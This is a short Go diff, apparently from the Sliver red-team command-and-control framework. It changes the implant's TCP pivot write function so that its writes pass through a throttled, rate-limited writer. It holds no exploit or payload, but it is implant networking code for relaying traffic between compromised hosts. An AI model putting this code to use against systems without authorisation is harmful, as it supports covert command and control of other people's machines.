@@ -26,9 +26,10 @@ func tcpPivoteWriteEnvelope(conn *net.Conn, envelope *sliverpb.Envelope) error {
 		// {{end}}
 		return err
 	}
+	writer := &throttledWriter{writer: *conn, limiters: envelopeLimiters(envelope)}
 	dataLengthBuf := new(bytes.Buffer)
 	binary.Write(dataLengthBuf, binary.LittleEndian, uint32(len(data)))
-	_, err = (*conn).Write(dataLengthBuf.Bytes())
+	_, err = writer.Write(dataLengthBuf.Bytes())
 	if err != nil {
 		// {{if .Debug}}
 		log.Printf("[tcppivot] Error %v and %d\n", err, dataLengthBuf)
@@ -36,7 +37,7 @@ func tcpPivoteWriteEnvelope(conn *net.Conn, envelope *sliverpb.Envelope) error {
 	}
 	totalWritten := 0
 	for totalWritten < len(data)-writeBufSizeTCP {
-		n, err2 := (*conn).Write(data[totalWritten : totalWritten+writeBufSizeTCP])
+		n, err2 := writer.Write(data[totalWritten : totalWritten+writeBufSizeTCP])
 		totalWritten += n
 		if err2 != nil {
 			// {{if .Debug}}
@@ -46,7 +47,7 @@ func tcpPivoteWriteEnvelope(conn *net.Conn, envelope *sliverpb.Envelope) error {
 	}
 	if totalWritten < len(data) {
 		missing := len(data) - totalWritten
-		_, err := (*conn).Write(data[totalWritten : totalWritten+missing])
+		_, err := writer.Write(data[totalWritten : totalWritten+missing])
 		if err != nil {
 			// {{if .Debug}}
 			log.Printf("[tcppivot] Error %v\n", err)